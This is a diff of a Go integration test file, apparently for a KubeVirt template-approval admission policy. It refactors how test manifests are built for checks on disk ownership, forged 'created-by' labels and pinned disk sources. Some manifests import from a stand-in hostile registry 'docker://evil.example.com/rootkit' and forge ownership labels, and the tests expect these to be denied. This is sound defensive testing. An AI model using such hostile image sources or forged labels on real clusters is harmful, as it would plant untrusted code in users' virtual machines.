@@ -58,26 +58,17 @@ func (b bench) must(t *testing.T, as *controlplane.User, stdin string, arguments
 // create creates a VM that is to run.
 func (b bench) create(t *testing.T, name string) controlplane.Result {
 	t.Helper()
-	return b.kubectl(t, b.insider, vm(name, "kiosks/stand", nil, "spec: {runStrategy: Always}\n"), "create", "-f", "-")
-}
-
-func labelled(label string) string {
-	if label == "" {
-		return "{}"
-	}
-	return fmt.Sprintf("{%s}", label)
+	return b.kubectl(t, b.insider, vm(name, "kiosks/stand", gen.RunStrategy("Always")), "create", "-f", "-")
 }
 
 // volume is a manifest of a DataVolume.
-func volume(name, label string) string {
-	return fmt.Sprintf("apiVersion: cdi.kubevirt.io/v1beta1\nkind: DataVolume\nmetadata: {name: %s, labels: %s}\n"+
-		"spec: {source: {registry: {url: \"docker://evil.example.com/rootkit\"}}, storage: {resources: {requests: {storage: 1Gi}}}}\n", name, labelled(label))
+func volume(name string, labels ...gen.Modifier) string {
+	return gen.Manifest(gen.DataVolume(name, `{registry: {url: "docker://evil.example.com/rootkit"}}`, labels...))
 }
 
 // claim is a manifest of a PersistentVolumeClaim.
-func claim(name, label string) string {
-	return fmt.Sprintf("apiVersion: v1\nkind: PersistentVolumeClaim\nmetadata: {name: %s, labels: %s}\n"+
-		"spec: {accessModes: [ReadWriteOnce], resources: {requests: {storage: 1Gi}}}\n", name, labelled(label))
+func claim(name string, labels ...gen.Modifier) string {
+	return gen.Manifest(gen.Claim(name, labels...))
 }
 
 // populate does what CDI does for a DataVolume: it creates the claim, with the labels of the DataVolume, or adopts an existing one unchanged.
@@ -90,11 +81,11 @@ func (b bench) populate(t *testing.T, name string) {
 		return nil
 	})
 	if b.kubectl(t, nil, "", "get", "pvc", name).Code != 0 {
-		label := ""
+		var labels []gen.Modifier
 		if created := b.must(t, nil, "", "get", "dv", name, "-o", `jsonpath={.metadata.labels.kubevirt\.io/created-by}`); created != "" {
-			label = "kubevirt.io/created-by: " + created
+			labels = append(labels, gen.Label("kubevirt.io/created-by", created))
 		}
-		b.must(t, b.cdi, claim(name, label), "create", "-f", "-")
+		b.must(t, b.cdi, claim(name, labels...), "create", "-f", "-")
 	}
 	b.must(t, b.cdi, "", "patch", "dv", name, "--type=merge", "--subresource=status", "-p", `{"status":{"phase":"Succeeded"}}`)
 }
@@ -155,7 +146,7 @@ spec: {policyName: hold-SPACE, validationActions: [Deny]}
 	}
 	t.Cleanup(release)
 	harness.Eventually(t, "virt-controller is held", func() error {
-		if out := b.kubectl(t, nil, volume("probe", ""), "create", "--dry-run=server", "--as="+kubevirtController, "-f", "-"); !strings.Contains(out.Stderr, "too late") {
+		if out := b.kubectl(t, nil, volume("probe"), "create", "--dry-run=server", "--as="+kubevirtController, "-f", "-"); !strings.Contains(out.Stderr, "too late") {
 			return errors.New(out.Stdout + out.Stderr)
 		}
 		return nil
@@ -166,7 +157,7 @@ spec: {policyName: hold-SPACE, validationActions: [Deny]}
 // TestADiskBelongsToItsMachine has a user with the roles edit of Kubernetes, KubeVirt and CDI create the disk of a VM before KubeVirt does.
 func TestADiskBelongsToItsMachine(t *testing.T) {
 	b := newBench(t, "insider-of-disks", namespaces.Of(t))
-	const forged = "kubevirt.io/created-by: 11111111-2222-3333-4444-555555555555"
+	forged := gen.Label("kubevirt.io/created-by", "11111111-2222-3333-4444-555555555555")
 	const lacks = `it lacks the label kubevirt.io/created-by, which KubeVirt gives to disks that it creates`
 
 	t.Run("a VM starts with the disk that KubeVirt creates", func(t *testing.T) {
@@ -185,7 +176,7 @@ func TestADiskBelongsToItsMachine(t *testing.T) {
 	})
 
 	t.Run("the disk before the VM", func(t *testing.T) {
-		for kind, manifest := range map[string]string{"DataVolume": volume("early-root", ""), "PersistentVolumeClaim": claim("early-root", "")} {
+		for kind, manifest := range map[string]string{"DataVolume": volume("early-root"), "PersistentVolumeClaim": claim("early-root")} {
 			b.must(t, b.insider, manifest, "create", "-f", "-")
 			wantDenied(t, b.create(t, "early"), `it is not approved in namespace "`+b.space+`": spec.dataVolumeTemplates[0].metadata.name: `+kind+` "early-root" exists already, `+
 				`and the VirtualMachine would start from it: delete it or choose another name, or ask a cluster admin to allow it with existingDisks (approval "vault")`)
@@ -197,12 +188,12 @@ func TestADiskBelongsToItsMachine(t *testing.T) {
 	})
 
 	t.Run("a label that says who created it", func(t *testing.T) {
-		cron := "apiVersion: cdi.kubevirt.io/v1beta1\nkind: DataImportCron\nmetadata: {name: cron, labels: %s}\nspec:\n  managedDataSource: early\n  schedule: \"* * * * *\"\n" +
+		const cron = "apiVersion: cdi.kubevirt.io/v1beta1\nkind: DataImportCron\nmetadata: {name: cron, labels: {kubevirt.io/created-by: 11111111-2222-3333-4444-555555555555}}\nspec:\n  managedDataSource: early\n  schedule: \"* * * * *\"\n" +
 			"  template: {spec: {source: {registry: {url: \"docker://evil.example.com/rootkit\"}}, storage: {resources: {requests: {storage: 1Gi}}}}}\n"
 		for name, manifest := range map[string]string{
 			"of a DataVolume":                       volume("forged", forged),
 			"of a claim":                            claim("forged", forged),
-			"that CDI copies from a DataImportCron": fmt.Sprintf(cron, labelled(forged)),
+			"that CDI copies from a DataImportCron": cron,
 		} {
 			t.Run(name, func(t *testing.T) {
 				wantDenied(t, b.kubectl(t, b.insider, manifest, "create", "-f", "-"), "forbidden", "label kubevirt.io/created-by records which VirtualMachine a disk was created for")
@@ -211,8 +202,8 @@ func TestADiskBelongsToItsMachine(t *testing.T) {
 	})
 
 	t.Run("the label later", func(t *testing.T) {
-		b.must(t, b.insider, volume("later", ""), "create", "-f", "-")
-		b.must(t, b.insider, claim("later", ""), "create", "-f", "-")
+		b.must(t, b.insider, volume("later"), "create", "-f", "-")
+		b.must(t, b.insider, claim("later"), "create", "-f", "-")
 		label := "kubevirt.io/created-by=" + b.must(t, nil, "", "get", "vm", "web", "-o", "jsonpath={.metadata.uid}")
 		for _, args := range [][]string{
 			{"label", "dv", "later", label}, {"label", "pvc", "later", label},
@@ -228,7 +219,7 @@ func TestADiskBelongsToItsMachine(t *testing.T) {
 
 	t.Run("the disk between the VM and KubeVirt", func(t *testing.T) {
 		release := b.hold(t)
-		for name, manifest := range map[string]string{"raced-volume": volume("raced-volume-root", ""), "raced-claim": claim("raced-claim-root", "")} {
+		for name, manifest := range map[string]string{"raced-volume": volume("raced-volume-root"), "raced-claim": claim("raced-claim-root")} {
 			if out := b.create(t, name); out.Code != 0 {
 				t.Fatal(out.Stderr)
 			}
@@ -266,14 +257,13 @@ func TestExistingDisksAreAllowedWhereEachApprovalSaysSo(t *testing.T) {
 	b := newBench(t, "restorer", space)
 	approve := func(name, disks string) {
 		t.Helper()
-		b.must(t, nil, "apiVersion: stencil.kubevirt.io/v1alpha1\nkind: TemplateApproval\nmetadata: {name: "+name+"}\n"+
-			"spec: {namespaces: ["+space+"], templates: [{namespace: kiosks, name: stand}], overrides: [spec.runStrategy], existingDisks: "+disks+"}\n", "apply", "-f", "-")
+		b.must(t, nil, gen.Manifest(gen.Approval(name, gen.Governs(space), gen.Approves("kiosks/stand"), gen.Overrides("spec.runStrategy"), gen.Spec("existingDisks: "+disks))), "apply", "-f", "-")
 		t.Cleanup(func() { b.must(t, nil, "", "delete", "templateapproval", name, "--ignore-not-found") })
 	}
 	approve("restores", "{policy: Allow, selector: {matchLabels: {restored: yes-of-course}}}")
 	b.must(t, nil, "", "wait", "namespace/"+space, "--for=jsonpath={.metadata.labels.stencil\\.kubevirt\\.io/governed}=true")
-	b.must(t, b.insider, claim("found-root", ""), "create", "-f", "-")
-	b.must(t, b.insider, claim("restored-root", "restored: yes-of-course"), "create", "-f", "-")
+	b.must(t, b.insider, claim("found-root"), "create", "-f", "-")
+	b.must(t, b.insider, claim("restored-root", gen.Label("restored", "yes-of-course")), "create", "-f", "-")
 
 	harness.Eventually(t, "the approval holds", func() error {
 		if out := b.create(t, "found"); !strings.Contains(out.Stderr, `PersistentVolumeClaim "found-root" exists already`) {
@@ -289,9 +279,9 @@ func TestExistingDisksAreAllowedWhereEachApprovalSaysSo(t *testing.T) {
 
 	// Another approval of the namespace that does not allow it.
 	approve("strict", "{}")
-	b.must(t, b.insider, claim("second-root", "restored: yes-of-course"), "create", "-f", "-")
+	b.must(t, b.insider, claim("second-root", gen.Label("restored", "yes-of-course")), "create", "-f", "-")
 	harness.Eventually(t, "the second approval denies", func() error {
-		out := b.kubectl(t, b.insider, vm("second", "kiosks/stand", nil, ""), "create", "--dry-run=server", "-f", "-")
+		out := b.kubectl(t, b.insider, vm("second", "kiosks/stand"), "create", "--dry-run=server", "-f", "-")
 		if !strings.Contains(out.Stderr, `PersistentVolumeClaim "second-root" exists already`) || !strings.Contains(out.Stderr, `(approval "strict")`) {
 			return errors.New(out.Stdout + out.Stderr)
 		}
@@ -306,38 +296,22 @@ func TestADiskComesFromThePinnedContent(t *testing.T) {
 		t.Fatal(err)
 	}
 	b := newBench(t, "retargeter", space)
-	b.must(t, nil, `
-apiVersion: template.kubevirt.io/v1beta1
-kind: VirtualMachineTemplate
-metadata: {name: copy}
-spec:
-  parameters: [{name: NAME}]
-  virtualMachine:
-    metadata: {name: "${NAME}"}
-    spec:
-      runStrategy: Halted
-      dataVolumeTemplates:
-      - metadata: {name: "${NAME}-root"}
-        spec: {sourceRef: {kind: DataSource, name: base}, storage: {resources: {requests: {storage: 1Gi}}}}
-      template:
-        spec:
-          domain: {memory: {guest: 64Mi}, devices: {disks: [{name: root, disk: {bus: virtio}}]}}
-          volumes: [{name: root, dataVolume: {name: "${NAME}-root"}}]
-`, "apply", "--namespace=kiosks", "-f", "-")
+	b.must(t, nil, gen.Manifest(gen.Template("copy", gen.Declares("NAME"), gen.Renders("${NAME}", gen.SmallSpec(),
+		gen.DataVolumeDisk("root", "${NAME}-root", "sourceRef: {kind: DataSource, name: base}")))), "apply", "--namespace=kiosks", "-f", "-")
 	t.Cleanup(func() { b.must(t, nil, "", "delete", "virtualmachinetemplate", "copy", "--namespace=kiosks") })
 	uid := func(claim string) string {
 		t.Helper()
 		return b.must(t, nil, "", "get", "pvc", claim, "-o", "jsonpath={.metadata.uid}")
 	}
-	b.must(t, b.insider, claim("release-1", ""), "create", "-f", "-")
-	b.must(t, b.insider, claim("rootkit", ""), "create", "-f", "-")
+	b.must(t, b.insider, claim("release-1"), "create", "-f", "-")
+	b.must(t, b.insider, claim("rootkit"), "create", "-f", "-")
 	source := func(target string) string {
 		return "apiVersion: cdi.kubevirt.io/v1beta1\nkind: DataSource\nmetadata: {name: base}\nspec: {source: " + target + "}\n"
 	}
 	b.must(t, b.insider, source("{pvc: {name: release-1, namespace: "+space+"}}"), "apply", "-f", "-")
 	approval := func(sources string) string {
-		return "apiVersion: stencil.kubevirt.io/v1alpha1\nkind: TemplateApproval\nmetadata: {name: pinned}\nspec:\n  namespaces: [" + space + "]\n" +
-			"  templates: [{namespace: kiosks, name: copy, sources: " + sources + "}, {namespace: kiosks, name: kiosk, sources: [{uid: none}]}]\n  overrides: [spec.runStrategy]\n"
+		templates := gen.Spec("templates: [{namespace: kiosks, name: copy, sources: " + sources + "}, {namespace: kiosks, name: kiosk, sources: [{uid: none}]}]")
+		return gen.Manifest(gen.Approval("pinned", gen.Governs(space), templates, gen.Overrides("spec.runStrategy")))
 	}
 	for sources, want := range map[string]string{
 		"[{}]": "exactly one of uid and digest must be given",
@@ -354,7 +328,7 @@ spec:
 
 	create := func(name, template string) controlplane.Result {
 		t.Helper()
-		return b.kubectl(t, b.insider, vm(name, template, nil, ""), "create", "-f", "-")
+		return b.kubectl(t, b.insider, vm(name, template), "create", "-f", "-")
 	}
 	const objection = `spec.dataVolumeTemplates[0].spec.sourceRef: the content of the disk is none that is approved with template kiosks/copy: `
 	harness.Eventually(t, "the approval holds", func() error {
@@ -369,7 +343,7 @@ spec:
 	b.must(t, b.insider, source("{pvc: {name: release-1, namespace: "+space+"}}"), "apply", "-f", "-")
 	b.must(t, b.insider, "", "delete", "pvc", "release-1")
 	wantDenied(t, create("deleted", "kiosks/copy"), objection+"PersistentVolumeClaim "+space+"/release-1 does not exist")
-	b.must(t, b.insider, claim("release-1", ""), "create", "-f", "-")
+	b.must(t, b.insider, claim("release-1"), "create", "-f", "-")
 	wantDenied(t, create("replaced", "kiosks/copy"), objection+"PersistentVolumeClaim "+space+"/release-1 with UID "+uid("release-1"))
 
 	b.must(t, b.insider, "", "delete", "datasource", "base")
